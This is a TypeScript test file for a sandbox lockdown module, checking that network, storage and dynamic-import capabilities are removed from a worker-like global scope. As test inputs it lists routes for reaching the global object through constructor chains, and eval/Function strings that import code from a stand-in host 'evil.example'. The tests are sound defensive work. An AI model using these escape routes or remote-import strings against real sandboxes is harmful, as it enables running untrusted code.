import { runInContext, createContext } from 'node:vm'
import { describe, expect, it } from 'vitest'
import { lockDownGlobal, LockdownError, refusesDynamicImport, REMOVED_CAPABILITIES } from './lockdown'

/**
 * A stand-in for a worker's global scope in a fresh `node:vm` realm: capabilities on the global
 * itself, on its prototype (where Chromium puts WorkerGlobalScope's members) and a `navigator` with
 * managers, as in a dedicated worker.
 */
function fakeWorkerScope() {
  const context = createContext({})
  runInContext(
    `
    const proto = {
      fetch() { return 'sent' },
      importScripts() {},
      postMessage() {},
      get indexedDB() { return { open() {} } },
      get navigator() { return { userAgent: 'Test/1.0', language: 'en', storage: { getDirectory() {} }, serviceWorker: {}, locks: {} } },
    }
    Object.setPrototypeOf(proto, Object.getPrototypeOf(globalThis))
    Object.setPrototypeOf(globalThis, proto)
    globalThis.XMLHttpRequest = function XMLHttpRequest() {}
    globalThis.WebSocket = function WebSocket() {}
    globalThis.BroadcastChannel = function BroadcastChannel() {}
    globalThis.caches = { open() {} }
    globalThis.webpackChunk_N_E = []
    globalThis.setTimeout = (fn) => (typeof fn === 'function' ? 1 : 0)
    globalThis.addEventListener = () => {}
    `,
    context,
  )
  return context
}

const run = (context: object, code: string): unknown => runInContext(code, context)

describe('lockDownGlobal', () => {
  it('removes every capability from the global object and its prototype chain, and webpack’s chunk array', () => {
    const scope = fakeWorkerScope()
    expect(run(scope, `typeof fetch`)).toBe('function')
    lockDownGlobal(run(scope, 'globalThis') as never)
    for (const name of [...REMOVED_CAPABILITIES, 'webpackChunk_N_E']) {
      expect(run(scope, `typeof globalThis[${JSON.stringify(name)}]`), name).toBe('undefined')
      expect(run(scope, `typeof Object.getPrototypeOf(globalThis)[${JSON.stringify(name)}]`), name).toBe('undefined')
    }
  })

  it('leaves the same nothing behind every way code reaches the global object', async () => {
    const scope = fakeWorkerScope()
    lockDownGlobal(run(scope, 'globalThis') as never)
    const routes = [
      `globalThis`,
      `(0, eval)('this')`,
      `Function('return this')()`,
      `({}).constructor.constructor('return this')()`,
      `(() => {}).constructor('return this')()`,
      `Reflect.construct(Function, ['return this'])()`,
    ]
    for (const route of routes) {
      expect(
        run(scope, `{ const g = ${route}; [typeof g.fetch, typeof g.postMessage, typeof g.indexedDB] }`),
        route,
      ).toEqual(['undefined', 'undefined', 'undefined'])
    }
    // The async and generator constructors compile code too; they answer with the same global.
    await expect(
      run(
        scope,
        `Object.getPrototypeOf(async function () {}).constructor('return this')().then((g) => typeof g.fetch)`,
      ),
    ).resolves.toBe('undefined')
  })

  it('replaces navigator by its facts, without storage, service workers or locks', () => {
    const scope = fakeWorkerScope()
    lockDownGlobal(run(scope, 'globalThis') as never)
    expect(run(scope, `navigator.userAgent`)).toBe('Test/1.0')
    expect(run(scope, `[navigator.storage, navigator.serviceWorker, navigator.locks, navigator.onLine]`)).toEqual([
      undefined,
      undefined,
      undefined,
      false,
    ])
    // Neither deleted nor replaced from the inside.
    expect(run(scope, `delete globalThis.navigator; typeof navigator.userAgent`)).toBe('string')
  })

  it('refuses import() in code compiled at run time, however it reaches the compiler', () => {
    const scope = fakeWorkerScope()
    lockDownGlobal(run(scope, 'globalThis') as never)
    const attempts = [
      `eval("import('https://evil.example/x.js')")`,
      `(0, eval)("import ('https://evil.example/x.js')")`,
      `Function("return import('https://evil.example/x.js')")()`,
      `new Function("return import\\n('https://evil.example/x.js')")()`,
      `({}).constructor.constructor("return import/**/('x')")()`,
      `Object.getPrototypeOf(async function () {}).constructor("await import('x')")`,
      `Object.getPrototypeOf(function* () {}).constructor("yield import('x')")`,
      `Object.getPrototypeOf(async function* () {}).constructor("yield import('x')")`,
      `Function("a = import('x')", "return a")`,
    ]
    for (const attempt of attempts) {
      expect(() => run(scope, attempt), attempt).toThrow(/import\(\) is not available in the lab/)
    }
    // String timers would compile code too.
    expect(() => run(scope, `setTimeout("import('x')")`)).toThrow(/takes a function/)
    expect(run(scope, `setTimeout(() => {})`)).toBe(1)
    // The constructors cannot be swapped back or re-pointed.
    expect(run(scope, `Function.prototype.constructor === Function`)).toBe(true)
  })

  it('still compiles ordinary code, including code that names import as a key (zod compiles schemas to code)', () => {
    const scope = fakeWorkerScope()
    lockDownGlobal(run(scope, 'globalThis') as never)
    expect(run(scope, `Function('a', 'return a * 2')(21)`)).toBe(42)
    expect(run(scope, `new Function('return shape["import"] ?? o.import')`)).toBeTypeOf('function')
    expect(run(scope, `eval('1 + 1')`)).toBe(2)
    expect(run(scope, `(function () {}) instanceof Function`)).toBe(true)
  })

  it('throws a LockdownError naming what it could not remove', () => {
    const context = createContext({})
    run(
      context,
      `Object.defineProperty(globalThis, 'fetch', { value: () => 'sent', configurable: false, writable: false })`,
    )
    let caught: unknown
    try {
      lockDownGlobal(run(context, 'globalThis') as never)
    } catch (error) {
      caught = error
    }
    expect(caught).toBeInstanceOf(LockdownError)
    expect((caught as LockdownError).leftovers).toEqual(['fetch'])
    expect((caught as Error).message).toMatch(/could not switch off fetch/)
  })
})

describe('refusesDynamicImport', () => {
  it.each([
    [`import('x')`, true],
    [`import ('x')`, true],
    [`import\u2028('x')`, true],
    [`x = [...import('y')]`, true],
    [`import/* c */('x')`, true],
    [`import<!-- c\n('x')`, true],
    [`shape["import"]`, false],
    [`obj.imports(1)`, false],
    [`const reimport = 1`, false],
    [`$import(1)`, false],
  ])('%j → %s', (code, refused) => {
    expect(refusesDynamicImport(code)).toBe(refused)
  })
})
